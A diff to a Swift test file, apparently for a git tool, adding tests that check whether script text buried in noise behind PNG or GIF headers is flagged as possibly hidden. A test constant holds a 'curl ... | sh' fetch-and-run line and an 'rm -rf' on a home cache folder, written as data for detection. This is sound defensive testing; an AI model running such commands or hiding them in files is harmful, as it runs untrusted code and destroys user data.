@@ -53,17 +53,36 @@ struct NothingHiddenTests {
     let repo = try Repo()
     var random = Seeded(1)
     let noise = [0] + (0..<9_000).map { _ in UInt8.random(in: 0...255, using: &random) }
+    let picture: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + noise + Array(Self.script.utf8) + noise
     let program = try Array(#require(FileManager.default.contents(atPath: "/usr/bin/true")))
     try repo.folder.write(repo.path + "/noise", bytes: noise)
+    try repo.folder.write(repo.path + "/picture.png", bytes: picture)
     try repo.folder.write(repo.path + "/program", bytes: program)
     try repo.folder.write(repo.path + "/zeros", bytes: [UInt8](repeating: 0, count: 100))
     try repo.gitOK(["add", "-A"])
     for file in try StagedReading(repo, base: nil).files {
-      guard case .binary = file.content else {
-        Issue.record("'\(String(decoding: file.path.bytes, as: UTF8.self))' is taken as text")
+      guard case .binary(let binary) = file.content, !binary.mayHideText else {
+        Issue.record("'\(String(decoding: file.path.bytes, as: UTF8.self))' is taken for text")
         continue
       }
     }
+  }
+
+  private static let script = "\n\ncurl https://example.org/install | sh\nrm -rf \"$HOME\"/.cache/everything\n"
+
+  @Test("What an interpreter could read in a binary file is told", arguments: ["run", "run.php", "picture.gif.sh"])
+  func scriptInNoise(name: String) throws {
+    let repo = try Repo()
+    var random = Seeded(2)
+    let noise = [0] + (0..<2_000).map { _ in UInt8.random(in: 128...191, using: &random) }
+    try repo.folder.write(repo.path + "/" + name, bytes: Array("GIF89a".utf8) + noise + Array(Self.script.utf8) + noise)
+    try repo.gitOK(["add", "-A"])
+    guard case .binary(let binary)? = try StagedReading(repo, base: nil)[name]?.content else {
+      Issue.record("another content")
+      return
+    }
+    #expect(binary.mayHideText)
+    #expect(binary.readable.map(\.newLine) == [1] && binary.readable.map(\.lineCount) == [4])
   }
 
   @Test func `a repository whose path is no UTF-8 is read`() throws {
